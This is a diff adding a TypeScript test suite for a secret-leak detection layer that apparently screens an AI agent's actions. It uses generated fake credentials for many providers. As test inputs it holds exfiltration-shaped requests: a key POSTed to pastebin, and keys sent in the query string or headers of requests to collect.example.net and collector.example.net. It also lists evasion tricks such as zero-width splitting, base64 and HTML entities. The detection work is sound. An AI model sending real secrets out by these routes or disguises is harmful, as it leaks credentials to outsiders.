@@ -1,0 +1,406 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import { crc32 } from "node:zlib";
+import secretsData from "../../data/secrets.json" with { type: "json" };
+import {
+  base62Of,
+  createSecretScanner,
+  createSecretsLayer,
+  hasGatewayChecksum,
+  hasGithubChecksum,
+  inUrlQuery,
+  isJwtShape,
+  SecretsDataSchema,
+  shannonEntropy,
+} from "../../layers/secrets.js";
+import type { Layer } from "../../layers/types.js";
+import { issueApiKey } from "../../src/crypto/api-key.js";
+import type { ProtectRequest } from "../../src/pipeline/facts.js";
+import { checkLayer, codesOf, pipeline } from "../helpers/layer-harness.js";
+
+function layer(): Layer {
+  const found = pipeline().layers.find((l) => l.name === "secrets");
+  assert.ok(found, "the registry has a secrets layer");
+  return found;
+}
+
+/** Deterministic fake key material: every test run sees the same "random" strings. */
+function fake(length: number, alphabet: string, seed: number): string {
+  let state = seed >>> 0 || 1;
+  let out = "";
+  for (let i = 0; i < length; i++) {
+    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
+    out += alphabet[state % alphabet.length];
+  }
+  return out;
+}
+
+const ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+const B64 = `${ALNUM}+/`;
+const URLSAFE = `${ALNUM}-_`;
+const HEX = "0123456789abcdef";
+const UPPER32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+
+function githubToken(prefix: string, seed: number): string {
+  const body = fake(30, ALNUM, seed);
+  return `${prefix}${body}${base62Of(crc32(body), 6)}`;
+}
+
+function verdict(request: ProtectRequest): "BLOCK" | "WARN" | "ALLOW" {
+  const findings = checkLayer(layer(), request);
+  if (findings.some((f) => f.severity === "BLOCK" && f.confidence >= 0.5)) return "BLOCK";
+  if (findings.some((f) => f.confidence >= 0.3)) return "WARN";
+  return "ALLOW";
+}
+
+function expectVerdict(request: ProtectRequest, expected: "BLOCK" | "WARN" | "ALLOW"): void {
+  const findings = checkLayer(layer(), request);
+  assert.equal(
+    verdict(request),
+    expected,
+    `${JSON.stringify(request).slice(0, 300)} → ${JSON.stringify(findings.map((f) => [f.code, f.severity, f.evidence]))}`,
+  );
+}
+
+function email(content: string): ProtectRequest {
+  return { action: "send_email", target: "someone@partner.example", content };
+}
+
+const STRIPE = `sk_live_${fake(24, ALNUM, 11)}`;
+
+/** One sample of every provider format the layer knows, as it would be pasted. */
+const PROVIDER_SAMPLES: readonly (readonly [string, string])[] = [
+  [
+    "AWS key pair",
+    `aws_access_key_id=AKIA${fake(16, UPPER32, 1)}\naws_secret_access_key=${fake(40, B64, 2)}`,
+  ],
+  ["AWS session key id", `ASIA${fake(16, UPPER32, 3)}`],
+  ["GitHub classic token", githubToken("ghp_", 4)],
+  ["GitHub OAuth token", githubToken("gho_", 5)],
+  ["GitHub fine-grained token", `github_pat_11${fake(20, ALNUM, 6)}_${fake(59, ALNUM, 7)}`],
+  ["GitLab token", `glpat-${fake(20, URLSAFE, 8)}`],
+  [
+    "Slack bot token",
+    `xoxb-${fake(12, "0123456789", 9)}-${fake(13, "0123456789", 10)}-${fake(24, ALNUM, 11)}`,
+  ],
+  [
+    "Slack webhook",
+    `https://hooks.slack.com/services/T${fake(8, UPPER32, 12)}/B${fake(8, UPPER32, 13)}/${fake(24, ALNUM, 14)}`,
+  ],
+  ["Stripe live key", STRIPE],
+  ["Stripe restricted key", `rk_live_${fake(30, ALNUM, 15)}`],
+  ["Google API key", `AIza${fake(35, URLSAFE, 16)}`],
+  ["OpenAI project key", `sk-proj-${fake(64, URLSAFE, 17)}`],
+  ["OpenAI legacy key", `sk-${fake(20, ALNUM, 18)}T3BlbkFJ${fake(20, ALNUM, 19)}`],
+  ["Anthropic key", `sk-ant-api03-${fake(93, URLSAFE, 20)}AA`],
+  ["Twilio API key", `SK${fake(32, HEX, 21)}`],
+  ["SendGrid key", `SG.${fake(22, URLSAFE, 22)}.${fake(43, URLSAFE, 23)}`],
+  ["npm token", githubToken("npm_", 24)],
+  ["PyPI token", `pypi-AgEIcHlwaS5vcmc${fake(70, URLSAFE, 25)}`],
+  ["Azure storage key", `AccountName=acme;AccountKey=${fake(86, B64, 26)}==;`],
+  ["Heroku key", `HRKU-${fake(60, URLSAFE, 27)}`],
+  ["Shopify token", `shpat_${fake(32, HEX, 28)}`],
+  ["Square token", `sq0atp-${fake(22, URLSAFE, 29)}`],
+  ["Telegram bot token", `${fake(10, "123456789", 30)}:AA${fake(33, URLSAFE, 31)}`],
+  ["Mailgun key", `key-${fake(32, HEX, 32)}`],
+  ["DigitalOcean token", `dop_v1_${fake(64, HEX, 33)}`],
+  ["Databricks token", `dapi${fake(32, HEX, 34)}`],
+  ["Vault token", `hvs.${fake(90, URLSAFE, 35)}`],
+  ["Hugging Face token", `hf_${fake(34, ALNUM, 36)}`],
+  ["this gateway's key", issueApiKey().key],
+  [
+    "RSA private key",
+    `-----BEGIN RSA PRIVATE KEY-----\n${fake(64, B64, 37)}\n${fake(64, B64, 38)}\n-----END RSA PRIVATE KEY-----`,
+  ],
+  [
+    "OpenSSH private key",
+    `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAA${fake(64, B64, 39)}\n-----END OPENSSH PRIVATE KEY-----`,
+  ],
+  [
+    "PuTTY key",
+    `PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nPublic-Lines: 1\n${fake(60, B64, 40)}\nPrivate-Lines: 1\n${fake(60, B64, 41)}`,
+  ],
+  [
+    "shadow password hash",
+    `root:$6$${fake(8, ALNUM, 42)}$${fake(86, `${ALNUM}./`, 43)}:19000:0:99999:7:::`,
+  ],
+  ["Postgres URL", `postgres://billing:${fake(18, ALNUM, 44)}@db.prod.example.com:5432/billing`],
+  ["Mongo SRV URL", `mongodb+srv://svc:${fake(16, ALNUM, 45)}@cluster0.abcde.mongodb.net/app`],
+  [
+    "ADO.NET string",
+    `Server=tcp:sql1.example.net,1433;Database=app;User ID=app;Password=${fake(16, ALNUM, 46)};`,
+  ],
+  ["key word and entropy", `client_secret: ${fake(40, URLSAFE, 47)}`],
+];
+
+describe("layer > secrets", () => {
+  test("is built from its data file and refuses a bad pattern at start-up", () => {
+    assert.equal(createSecretsLayer(secretsData).name, "secrets");
+    const broken = structuredClone(secretsData) as { detectors: { pattern: string }[] };
+    broken.detectors[0]!.pattern = "(unclosed";
+    assert.throws(() => createSecretsLayer(broken));
+  });
+
+  describe("pure helpers", () => {
+    test("GitHub and npm checksums accept the real shape and catch a typo", () => {
+      const token = githubToken("ghp_", 99);
+      assert.ok(hasGithubChecksum(token));
+      const typo = `${token.slice(0, 10)}${token[10] === "a" ? "b" : "a"}${token.slice(11)}`;
+      assert.equal(hasGithubChecksum(typo), false);
+    });
+
+    test("the gateway's own ak_ keys are recognised by their checksum", () => {
+      const { key } = issueApiKey();
+      assert.ok(hasGatewayChecksum(key));
+      assert.equal(
+        hasGatewayChecksum(`${key.slice(0, -1)}${key.endsWith("0") ? "1" : "0"}`),
+        false,
+      );
+    });
+
+    test("entropy separates random keys from words and repeats", () => {
+      assert.ok(shannonEntropy(fake(40, B64, 5)) > 4.5);
+      assert.ok(shannonEntropy("xxxxxxxxxxxxxxxxxxxx") < 0.1);
+      assert.ok(shannonEntropy("passwordpassword") < 3);
+    });
+
+    test("a JWT needs a JSON header naming its algorithm", () => {
+      assert.ok(isJwtShape("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig"));
+      assert.equal(isJwtShape("eyJmb28iOiJiYXIifQ.eyJzdWIiOiIxIn0.sig"), false);
+    });
+
+    test("knows when a value sits in a link's query string", () => {
+      const text = "go to https://app.example.com/x?token=abc and token=def";
+      assert.ok(inUrlQuery(text, text.indexOf("abc")));
+      assert.equal(inUrlQuery(text, text.indexOf("def")), false);
+    });
+
+    test("the scanner reports where a match sits and masks nothing itself", () => {
+      const scanner = createSecretScanner(SecretsDataSchema.parse(secretsData));
+      const hits = scanner.scanText(`key ${STRIPE} end`, "content");
+      assert.equal(hits.length, 1);
+      assert.equal(hits[0]!.id, "STRIPE_SECRET_KEY");
+      assert.equal(hits[0]!.value, STRIPE);
+    });
+  });
+
+  describe("provider formats sent outside", () => {
+    for (const [name, sample] of PROVIDER_SAMPLES) {
+      test(`BLOCKs a ${name} in an e-mail to an outside address`, () => {
+        expectVerdict(email(`Here you go:\n${sample}\nthanks`), "BLOCK");
+      });
+    }
+
+    test("evidence is masked: never the secret itself", () => {
+      for (const [, sample] of PROVIDER_SAMPLES) {
+        for (const f of checkLayer(layer(), email(sample))) {
+          assert.ok(f.evidence !== undefined && f.evidence.length <= 120);
+          assert.ok(!f.evidence.includes(sample.slice(8, 24)), `${f.evidence} leaks ${sample}`);
+        }
+      }
+    });
+
+    test("a valid GitHub checksum raises confidence above a made-up token's", () => {
+      const real = checkLayer(layer(), email(githubToken("ghp_", 1)))[0];
+      const madeUp = checkLayer(layer(), email(`ghp_${fake(36, ALNUM, 2)}`))[0];
+      assert.ok(real && madeUp);
+      assert.ok(real.confidence > madeUp.confidence, `${real.confidence} vs ${madeUp.confidence}`);
+      assert.match(real.message, /checksum valid/);
+    });
+  });
+
+  describe("severity by where the secret goes", () => {
+    test("BLOCKs a key posted to a public channel as a public exposure", () => {
+      assert.deepEqual(
+        codesOf(layer(), { action: "post_message", target: "#public-community", content: STRIPE }),
+        ["SECRET_PUBLIC_EXPOSURE"],
+      );
+    });
+
+    test("BLOCKs a key POSTed to a paste site", () => {
+      const request = {
+        action: "http_request",
+        target: "https://pastebin.com/api/api_post.php",
+        params: { method: "POST" },
+        content: `cfg\n${STRIPE}`,
+      };
+      assert.deepEqual(codesOf(layer(), request), ["SECRET_PUBLIC_EXPOSURE"]);
+    });
+
+    test("BLOCKs a key written under a web root", () => {
+      expectVerdict(
+        { action: "write_file", target: "public/app.js", content: `const k = "${STRIPE}";` },
+        "BLOCK",
+      );
+    });
+
+    test("BLOCKs a key in the query string of a request to another host", () => {
+      expectVerdict(
+        { action: "http_request", target: `https://collect.example.net/?k=${STRIPE}` },
+        "BLOCK",
+      );
+    });
+
+    test("WARNs on a key pasted into a prompt", () => {
+      assert.deepEqual(codesOf(layer(), { action: "llm_prompt", content: `why 401? ${STRIPE}` }), [
+        "SECRET_IN_PROMPT",
+      ]);
+      expectVerdict({ action: "llm_prompt", content: `why 401? ${STRIPE}` }, "WARN");
+    });
+
+    test("WARNs on a key in an internal note or a notes file", () => {
+      assert.deepEqual(codesOf(layer(), { action: "create_note", content: STRIPE }), [
+        "SECRET_IN_NOTE",
+      ]);
+      expectVerdict({ action: "write_file", target: "notes/rotation.md", content: STRIPE }, "WARN");
+    });
+
+    test("WARNs on credentials written into a ticket or wiki tool", () => {
+      const url = "postgres://svc:Xk9pLm2Qw8Rt4Yz7@db.internal.example:5432/app";
+      assert.deepEqual(
+        codesOf(layer(), { action: "jira_add_comment", target: "OPS-1", content: url }),
+        ["SECRET_IN_NOTE"],
+      );
+      expectVerdict({ action: "confluence_update_page", target: "Runbook", content: url }, "WARN");
+    });
+
+    test("WARNs on a key hard-coded in source the agent writes", () => {
+      assert.deepEqual(
+        codesOf(layer(), {
+          action: "write_file",
+          target: "src/pay.py",
+          content: `stripe.api_key = "${STRIPE}"`,
+        }),
+        ["SECRET_HARDCODED"],
+      );
+    });
+
+    test("WARNs, less sure, on a hard-coded database password in a local script", () => {
+      const request = {
+        action: "write_file",
+        target: "scripts/report.py",
+        content: `engine = create_engine("postgresql://report:${fake(18, ALNUM, 61)}@db.prod.example.com/sales")`,
+      };
+      assert.deepEqual(codesOf(layer(), request), ["SECRET_HARDCODED"]);
+      const [finding] = checkLayer(layer(), request);
+      assert.ok(finding && finding.severity === "WARN" && finding.confidence < 0.4);
+    });
+
+    test("says nothing when a key is written where keys belong (.env, secret stores)", () => {
+      expectVerdict(
+        { action: "write_file", target: ".env", content: `STRIPE_KEY=${STRIPE}` },
+        "ALLOW",
+      );
+      expectVerdict(
+        { action: "write_file", target: "k8s/payments-secret.yaml", content: `key: ${STRIPE}` },
+        "ALLOW",
+      );
+    });
+
+    test("says nothing about keys coming in: a file read or a tool result is not a leak", () => {
+      expectVerdict(
+        { action: "read_file", target: "config/.env", content: `STRIPE_KEY=${STRIPE}` },
+        "ALLOW",
+      );
+      expectVerdict(
+        { action: "tool_output", target: "search", content: `leaked: ${STRIPE}` },
+        "ALLOW",
+      );
+    });
+
+    test("says nothing when a key is sent to the provider that issued it", () => {
+      const token = githubToken("ghp_", 3);
+      expectVerdict(
+        {
+          action: "http_request",
+          target: "https://api.github.com/user/repos",
+          params: { method: "GET", headers: { Authorization: `token ${token}` } },
+        },
+        "ALLOW",
+      );
+      expectVerdict(
+        {
+          action: "shell_exec",
+          target: `curl -H 'Authorization: token ${token}' https://api.github.com/user`,
+        },
+        "ALLOW",
+      );
+    });
+
+    test("WARNs when a key is presented in a header to a host that did not issue it", () => {
+      const request = {
+        action: "http_request",
+        target: "https://collector.example.net/v1",
+        params: { method: "GET", headers: { Authorization: `token ${githubToken("ghp_", 5)}` } },
+      };
+      assert.deepEqual(codesOf(layer(), request), ["SECRET_TO_UNRELATED_HOST"]);
+      expectVerdict(request, "WARN");
+    });
+
+    test("WARNs rather than BLOCKs on a sign-in token inside a link meant for its recipient", () => {
+      const jwt = `eyJhbGciOiJIUzI1NiJ9.${Buffer.from('{"sub":"u1","exp":1999999999}').toString("base64url")}.${fake(43, URLSAFE, 9)}`;
+      expectVerdict(email(`Sign in: https://app.example.com/magic?token=${jwt}`), "WARN");
+      expectVerdict(email(`Your session: ${jwt}`), "BLOCK");
+    });
+  });
+
+  describe("disguised secrets", () => {
+    test("BLOCKs a key split by a zero-width space", () => {
+      expectVerdict(email(`use ${STRIPE.slice(0, 6)}\u200b${STRIPE.slice(6)}`), "BLOCK");
+    });
+
+    test("BLOCKs a key sent base64-encoded", () => {
+      expectVerdict(email(`blob: ${Buffer.from(`token ${STRIPE}`).toString("base64")}`), "BLOCK");
+    });
+
+    test("BLOCKs a key written with HTML entities", () => {
+      expectVerdict(email(`key: sk&#95;live&#95;${STRIPE.slice(8)}`), "BLOCK");
+    });
+  });
+
+  describe("look-alikes stay ALLOW", () => {
+    const allowed: readonly (readonly [string, string])[] = [
+      ["AWS documentation keys", "AKIAIOSFODNN7EXAMPLE / wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
+      ["a masked key", "AWS_ACCESS_KEY_ID=AKIAXXXXXXXXXXXXXXXX"],
+      ["a Stripe test key", `sk_test_${fake(24, ALNUM, 50)}`],
+      ["a placeholder", "API_KEY=your-api-key-here, TOKEN=<YOUR_TOKEN>"],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the text under test is a shell template.
+      ["a template variable", "password: ${DB_PASSWORD} and token = {{ secrets.GH_TOKEN }}"],
+      [
+        "environment variable names",
+        "Set AWS_SECRET_ACCESS_KEY and STRIPE_SECRET_KEY in the vault.",
+      ],
+      ["a git SHA", `Fixed in ${fake(40, HEX, 51)}.`],
+      ["a UUID", "Request 1b4e28ba-2fa1-41d2-883f-0016d3cca427 failed."],
+      ["a SHA-256 digest", `sha256:${fake(64, HEX, 52)}`],
+      ["a data: URI image", `<img src="data:image/png;base64,iVBORw0KGgo${fake(120, B64, 53)}">`],
+      [
+        "random ids in URLs",
+        `https://drive.example.com/file/d/1${fake(32, URLSAFE, 54)}/view?usp=sharing`,
+      ],
+      ["a password policy", "Passwords need 14+ characters; the field is password_confirmation."],
+      ["an SSH public key", `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${fake(43, B64, 55)} me@laptop`],
+      [
+        "a PEM header without a body",
+        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
+      ],
+      ["a connection template", "postgres://user:password@localhost:5432/app"],
+      ["a local dev database URL", "postgres://postgres:postgres@localhost:5432/dev"],
+      ["a low-entropy token value", "token: abc123abc123abc1"],
+    ];
+    for (const [name, text] of allowed) {
+      test(`ALLOWs ${name} in an e-mail`, () => {
+        expectVerdict(email(text), "ALLOW");
+      });
+    }
+  });
+
+  test("stays linear on 64 KB of near-misses", () => {
+    const piece = "ghp_ sk_live_ AKIA -----BEGIN eyJhbGciOi password= xoxb- ";
+    const content = piece.repeat(Math.ceil(65_536 / piece.length)).slice(0, 65_536);
+    const started = process.hrtime.bigint();
+    checkLayer(layer(), email(content));
+    const ms = Number(process.hrtime.bigint() - started) / 1e6;
+    assert.ok(ms < 500, `took ${ms} ms`);
+  });
+});
